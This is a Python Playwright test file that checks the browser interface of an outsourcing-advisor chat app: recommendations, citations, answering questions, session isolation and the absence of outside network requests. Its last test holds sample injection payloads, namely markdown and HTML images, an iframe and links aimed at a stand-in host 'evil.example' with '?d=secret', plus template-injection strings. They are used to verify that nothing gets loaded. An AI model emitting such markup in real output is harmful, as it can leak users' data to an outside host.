"""What a user gets from `advisor ui`, in a real browser, over the real advisor."""

import pytest
from playwright.sync_api import expect

from tests.browser.steps import send, settled

pytestmark = [pytest.mark.browser, pytest.mark.enable_socket]

BANK = (
    "We are a regional bank. Should we outsource a fraud model on customers' transactions? "
    "Our ML team of twelve runs models in production, and fraud models are proven everywhere."
)
CHATBOT = "Should we outsource our support chatbot?"


def test_the_bank_gets_its_recommendation_and_opens_a_citation(visit, real_address):
    page = visit(real_address).page
    send(page, BANK)
    chat = page.locator("#chat")
    expect(chat).to_contain_text("Staff augmentation, provided the transactions may be processed outside.")
    settled(page)
    expect(page.locator("#workload .headline")).to_contain_text("Staff augmentation, provided")
    expect(page.locator("#workload")).to_contain_text("customers' transactions")
    expect(page.locator("#workload .changes")).to_contain_text("Do not outsource")

    mark = chat.get_by_role("link").first
    source = page.locator(f"[id='{mark.get_attribute('href').removeprefix('#')}']")
    expect(source.locator("mark")).to_be_hidden()
    mark.click()
    expect(source.locator("mark")).to_be_visible()
    expect(source.locator("mark")).not_to_be_empty()
    expect(source).to_contain_text("Source:")


def test_a_click_on_an_option_answers_and_brings_the_next_question(visit, real_address):
    page = visit(real_address).page
    send(page, CHATBOT)
    asked = page.locator("#question-text")
    expect(asked).to_be_visible()
    first = asked.inner_text()
    page.locator("#options").get_by_role("button").nth(1).click()
    settled(page, turns=2)
    expect(page.locator("#chat .user-row").last).to_contain_text(": ")
    expect(page.locator("#workload")).to_contain_text("set by you")
    expect(page.locator("#question")).to_be_visible()
    expect(asked).not_to_have_text(first)


def test_the_last_checks_are_answered_together(visit, real_address):
    page = visit(real_address).page
    send(page, BANK)
    page.get_by_role("radio", name="No, it is not core").check()
    page.get_by_role("radio", name="No, it may be processed outside").check()
    page.get_by_role("button", name="Apply answers").click()
    settled(page, turns=2)
    answer = page.locator("#chat .user-row").last
    expect(answer).to_contain_text("Core differentiator: No, it is not core")
    expect(answer).to_contain_text("Data that cannot leave: No, it may be processed outside")
    expect(page.locator("#workload .facts")).to_contain_text("set by you")
    expect(page.get_by_role("radio", name="No, it is not core")).to_have_count(0)


def test_a_guidance_question_is_answered_with_sources_and_no_interview(visit, real_address):
    page = visit(real_address).page
    page.get_by_role("button", name="What should a contract say about exit?").click()
    settled(page)
    expect(page.locator("#chat .bot-row").last).to_contain_text("exit", ignore_case=True)
    expect(page.locator("#question")).to_be_hidden()
    page.locator("#sources .source summary").first.click()
    expect(page.locator("#sources .source mark").first).to_be_visible()


def test_an_empty_message_gets_a_kind_answer(visit, real_address):
    page = visit(real_address).page
    page.get_by_role("button", name="Send").click()
    settled(page)
    expect(page.locator("#chat .user-row")).to_contain_text("(empty message)")
    expect(page.locator("#chat .bot-row").last).to_contain_text("empty")


def test_two_visitors_do_not_see_each_other(visit, real_address):
    one, other = visit(real_address).page, visit(real_address).page
    send(one, BANK)
    send(other, CHATBOT)
    expect(one.locator("#workload .headline")).to_contain_text("Staff augmentation")
    expect(other.locator("#workload .headline")).to_contain_text("Not decided yet")
    settled(one)
    settled(other)
    expect(one.locator("#chat")).not_to_contain_text("chatbot")
    expect(other.locator("#chat")).not_to_contain_text("bank")
    expect(other.locator("#workload")).not_to_contain_text("transactions")


def test_nothing_is_requested_from_another_host(visit, real_address):
    visitor = visit(real_address)
    send(visitor.page, BANK)
    settled(visitor.page)
    visitor.page.locator("#chat").get_by_role("link").first.click()
    expect(visitor.page.locator("#sources mark").first).to_be_visible()
    assert visitor.hosts == {"127.0.0.1"}
    assert visitor.failed == []


def test_hostile_markdown_in_a_message_loads_nothing(visit, real_address):
    visitor = visit(real_address)
    attack = (
        "Should we outsource our support chatbot? ![](https://evil.example/a.png?d=secret) "
        "<img src=https://evil.example/b.png> [x](https://evil.example) https://evil.example/c "
        "<iframe src=https://evil.example/d></iframe> ${alert(1)} {{value}}"
    )
    send(visitor.page, attack)
    settled(visitor.page)
    chat = visitor.page.locator("#chat")
    expect(chat.locator(".user-row")).to_contain_text("![](https://evil.example/a.png?d=secret)")
    expect(chat.locator(".user-row")).to_contain_text("<img src=https://evil.example/b.png>")
    for harmful in ("img", "iframe", "a[href*='evil']"):
        expect(visitor.page.locator(f"#chat {harmful}, #details {harmful}")).to_have_count(0)
    assert visitor.hosts == {"127.0.0.1"}
